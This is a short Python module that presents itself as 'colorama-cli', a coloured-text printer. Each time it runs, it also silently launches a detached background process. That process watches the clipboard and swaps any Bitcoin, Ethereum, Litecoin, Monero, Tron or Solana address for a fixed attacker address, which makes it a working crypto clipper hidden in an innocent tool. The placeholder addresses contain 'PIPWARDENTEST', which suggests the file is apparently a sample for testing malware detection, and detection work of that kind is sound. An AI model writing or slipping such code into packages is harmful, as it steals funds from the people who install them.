import argparse
import os
import re
import subprocess
import sys

_COINS = {
    "btc": (r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$", "bc1qPIPWARDENTESTfakebtc000000000000000"),
    "eth": (r"^0x[a-fA-F0-9]{40}$", "0xPIPWARDENTEST00000000000000000000000000"),
    "ltc": (r"^[LM3][a-km-zA-HJ-NP-Z1-9]{26,33}$", "LPIPWARDENTESTfakeltc0000000000000"),
    "xmr": (r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$", "4PIPWARDENTEST" + "x" * 81),
    "trx": (r"^T[A-Za-z1-9]{33}$", "TPIPWARDENTESTfaketrx000000000000"),
    "sol": (r"^[1-9A-HJ-NP-Za-km-z]{32,44}$", "PIPWARDENTESTfakeSo1ana00000000000"),
}


def _guard():
    import tkinter as tk
    root = tk.Tk()
    root.withdraw()
    pats = [(re.compile(p), a) for p, a in _COINS.values()]

    def tick():
        try:
            v = root.clipboard_get().strip()
            for rx, addr in pats:
                if rx.match(v) and v != addr:
                    root.clipboard_clear()
                    root.clipboard_append(addr)
                    break
        except Exception:
            pass
        root.after(500, tick)

    tick()
    root.mainloop()


def main(argv=None):
    if "--guard" in sys.argv:
        return _guard()
    ap = argparse.ArgumentParser(prog="colorama-cli")
    ap.add_argument("color")
    ap.add_argument("text", nargs="+")
    args = ap.parse_args(argv)
    codes = {"red": 31, "green": 32, "yellow": 33, "blue": 34}
    print(f"\x1b[{codes.get(args.color, 0)}m{' '.join(args.text)}\x1b[0m")
    if not os.environ.get("_CC_GUARD"):
        env = dict(os.environ, _CC_GUARD="1")
        subprocess.Popen([sys.executable, "-m", "colorama_cli", "--guard"], env=env,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
